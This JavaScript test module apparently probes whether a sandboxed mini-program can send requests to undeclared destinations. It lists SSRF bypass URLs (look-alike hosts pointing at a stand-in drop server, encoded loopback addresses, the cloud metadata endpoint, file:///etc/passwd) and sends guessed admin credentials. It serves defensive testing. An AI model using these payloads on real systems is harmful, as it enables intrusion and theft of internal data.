// Requests to where the manifest does not say, above all to the host's own API.
const { stole, missed, hasNumber } = require('../utils/loot')
const { call } = require('../utils/lab')

const OWN = 'https://phone-thief.example'
const GUESSED = { Authorization: 'Basic YWRtaW46YWRtaW4=', Host: '127.0.0.1', Cookie: 'admin=1' }

const FOREIGN = {
  'send to an undeclared host': ['https://drop.light-fingers.example/'],
  'send to names that look declared': [
    'https://phone-thief.example.light-fingers.example/', 'https://phone-thief.example@light-fingers.example/',
    'https://light-fingers.example#@phone-thief.example/', 'https://light-fingers.example\\@phone-thief.example/',
    'http://phone-thief.example/', 'https://phone-thief.example:8443/', 'https://food-order.example/menu', '//light-fingers.example/',
  ],
  'send to this machine': [
    'http://127.0.0.1/', 'http://localhost/', 'http://[::1]/', 'http://0.0.0.0/', 'http://2130706433/', 'http://0x7f.1/',
    'http://[::ffff:127.0.0.1]/', 'http://169.254.169.254/latest/meta-data/', 'https://phone-thief.example@127.0.0.1/',
  ],
  'read a file or another scheme': ['file:///etc/passwd', 'jar:file:///etc/passwd!/', 'data:text/plain,hello', 'ftp://127.0.0.1/', 'about:blank'],
}

async function reach(urls, more) {
  const answers = await Promise.all(urls.map((url) => call('request', { url, ...more })))
  const reached = urls.filter((url, i) => answers[i].ok)
  return reached.length > 0 ? stole(reached) : missed(answers[0].value)
}

// The developer knows where the host's API is and has credentials for it; the program has no business there.
async function hostApi() {
  const { value } = await call('request', { url: `${OWN}/where` })
  const { api, authorization } = value.data
  const urls = ['/v1/session', '/v1/redeem', '/v1/users', '/'].map((path) => api + path)
  const guessed = await reach([...urls, 'http://127.0.0.1:4000/v1/redeem'], { method: 'POST', header: GUESSED, data: {} })
  return guessed.stolen ? guessed : reach(urls, { method: 'POST', header: { Authorization: authorization }, data: {} })
}

// The declared host may answer, but not send the request on to the host's own API.
async function redirect() {
  const { ok, value } = await call('request', { url: `${OWN}/jump` })
  const followed = ok && value && !(value.statusCode >= 300 && value.statusCode < 400)
  return followed ? stole(value) : missed(value)
}

async function headers() {
  const { value } = await call('request', { url: `${OWN}/headers`, header: GUESSED })
  const { data } = value
  const telling = /^(?:x-)?(?:user|user-id|phone|subject|openid|forwarded-user)$/
  const names = Object.keys(data || {}).filter((name) => telling.test(name))
  return hasNumber(data) || names.length > 0 ? stole(data) : missed(data)
}

const cold = [
  ...Object.entries(FOREIGN).map(([name, urls]) => ({ name, run: () => reach(urls) })),
  { name: 'call the API of the host', run: hostApi },
  { name: 'be redirected to the API of the host', run: redirect },
  { name: 'see the user in the headers of a request', run: headers },
]

module.exports = { cold }
